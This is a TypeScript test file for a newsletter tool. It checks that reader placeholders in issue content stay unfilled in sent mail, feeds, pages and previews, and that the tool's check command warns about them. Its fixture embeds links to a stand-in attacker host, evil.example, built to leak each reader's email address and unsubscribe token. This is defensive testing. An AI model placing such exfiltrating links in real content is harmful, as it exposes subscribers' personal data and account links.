import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import { simpleParser, type ParsedMail } from "mailparser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { build } from "../src/build/build.ts";
import type { EmailMeta } from "../src/build/emails.ts";
import { loadContent } from "../src/content/load.ts";
import { runCampaign } from "../src/send/campaign.ts";
import { prepareMessage } from "../src/send/message.ts";
import { readSecret } from "../src/send/tokens.ts";
import { createOutboxTransport } from "../src/send/transport.ts";
import { createApp } from "../src/server/app.ts";
import { SAMPLE_EMAIL } from "../src/server/preview.ts";
import { SqliteStore } from "../src/store/sqlite/sqlite-store.ts";
import { httpRequest } from "./helpers/http.ts";
import { runCli } from "./helpers/processes.ts";
import { makeProject } from "./helpers/project.ts";

const READER = "victim@example.org";

/**
 * An issue whose content carries the per-reader placeholders, as an item
 * `gazette draft` took from someone else's feed could: in a link, a title,
 * a Markdown summary (plain, backslash-escaped and as character
 * references), a label, a tag, the lead. Only the templates may place a
 * reader's address or signed unsubscribe link.
 */
const HOSTILE = `---
number: 37
date: 2022-01-24
title: "Weekly [[gazette:email]]"
contributors: ["[[gazette:email]]"]
sections:
  - title: "Papers [[gazette:unsubscribe_url]]"
    items:
      - institutions: ["[[gazette:email]] Lab"]
        title: "Click me [[gazette:email]]"
        translation: "点我 [[gazette:unsubscribe_url]]"
        authors: ["[[gazette:email]]"]
        summary: >-
          See [this](https://evil.example/md?who=[[gazette:email]]) and
          \\[\\[gazette:email\\]\\] and &#91;&#91;gazette:unsubscribe_url&#93;&#93;
          and [[gazette:confirm_url]] and [[gazette:anything]].
        links:
          paper: "https://evil.example/p?who=[[gazette:email]]&u=[[gazette:unsubscribe_url]]"
          other:
            - { label: "Slides [[gazette:email]]", url: "https://evil.example/s/[[gazette:unsubscribe_url]]" }
        tags: ["[[gazette:email]]"]
---
A lead that says hello to [[gazette:email]].
`;

describe("placeholder syntax in content", () => {
  let root: string;
  let mail: ParsedMail;
  let unsubscribeUrl: string;
  let store: SqliteStore;

  beforeAll(async () => {
    root = await makeProject("issue-36", { "037.md": HOSTILE });
    await build({ root });
    store = new SqliteStore(path.join(root, "data/gazette.sqlite"));
    await store.addSubscriber({ email: READER });
    const { newsletter } = await loadContent(root);
    const dir = path.join(root, "dist/emails");
    const meta = JSON.parse(await readFile(path.join(dir, "37.json"), "utf8")) as EmailMeta;
    const message = prepareMessage({ meta, html: await readFile(path.join(dir, "37.html"), "utf8"), text: await readFile(path.join(dir, "37.txt"), "utf8"), newsletter, date: new Date() });
    const outbox = path.join(root, "data/outbox/37");
    await store.startCampaign(37, { resendUncertain: false });
    await runCampaign({ issue: 37, newsletter, store, transport: createOutboxTransport(outbox), message, secret: readSecret(path.join(root, "data")), concurrency: 1, retry: { attempts: 1, baseDelayMs: 1, maxDelayMs: 1 } });
    const [file] = await readdir(outbox);
    mail = await simpleParser(await readFile(path.join(outbox, file!)));
    unsubscribeUrl = (mail.headers.get("list") as { unsubscribe: { url: string } }).unsubscribe.url;
  });
  afterAll(async () => store.close());

  it("is never filled in the sent mail: the reader's address and unsubscribe link appear only where the templates put them", () => {
    const html = mail.html as string;
    const text = mail.text!;
    const token = new URL(unsubscribeUrl).pathname.split("/").pop()!;
    // The footer's "why you get this" line and the unsubscribe link, once each per part.
    expect(html.split(READER).length - 1).toBe(1);
    expect(text.split(READER).length - 1).toBe(1);
    expect(html.split(token).length - 1).toBe(1);
    expect(text.split(token).length - 1).toBe(1);
    expect(html).toContain(`href="${unsubscribeUrl}"`);
    const evil = [...html.matchAll(/href="(https:\/\/evil\.example[^"]*)"/g)].map((m) => m[1]!);
    expect(evil.length).toBeGreaterThanOrEqual(3);
    for (const href of [...evil, ...(text.match(/https:\/\/evil\.example\S*/g) ?? [])]) {
      expect(href).not.toContain("victim");
      expect(decodeURIComponent(href.replace(/&amp;/g, "&"))).not.toContain(token);
    }
  });

  it("shows as the text it is, in the HTML and the text part", () => {
    const html = mail.html as string;
    expect(html).toContain("Click me &#91;&#91;gazette:email]]");
    expect(html).toContain("Slides &#91;&#91;gazette:email]]");
    expect(mail.text).toContain("Click me [\u2060[gazette:email]]");
    expect(mail.text).toContain("A lead that says hello to [\u2060[gazette:email]].");
    expect(mail.text).not.toMatch(/\[\[gazette:/);
  });

  it("is never treated as a placeholder in the feeds, the pages or the email preview", async () => {
    for (const file of ["rss.xml", "atom.xml", "feed.json", "issues/37/index.html"]) {
      const body = await readFile(path.join(root, "dist", file), "utf8");
      expect(body, file).toContain("gazette:email");
      expect(body, file).not.toContain(READER);
    }
    const app = await createApp({ distDir: path.join(root, "dist") });
    try {
      const base = await app.listen({ port: 0, host: "127.0.0.1" });
      for (const part of ["html", "text"]) {
        const res = await httpRequest(`${base}/_preview/emails/37/${part}`);
        expect(res.status).toBe(200);
        expect(res.body.split(SAMPLE_EMAIL).length - 1, part).toBe(1);
      }
    } finally {
      await app.close();
    }
  });

  it("gazette check warns where it stands: file, line and field", async () => {
    const { status, stdout, stderr } = await runCli(["check"], root, {});
    expect(status).toBe(0);
    const out = stdout + stderr;
    const warned = (line: number, field: string) => new RegExp(`line ${line}\\s+${field.replace(/[[\].]/g, "\\$&")}: holds placeholder syntax`);
    expect(out).toContain("content/issues/037.md");
    expect(out).toMatch(warned(4, "title"));
    expect(out).toMatch(warned(10, "sections[0].items[0].title"));
    expect(out).toMatch(warned(13, "sections[0].items[0].summary"));
    expect(out).toMatch(warned(18, "sections[0].items[0].links.paper"));
    expect(out).toMatch(warned(23, "lead"));
    expect(out).toContain('"\\\\[\\\\[gazette:email\\\\]\\\\]"');
    expect(out).toContain('"&#91;&#91;gazette:unsubscribe_url&#93;&#93;"');
  });
});
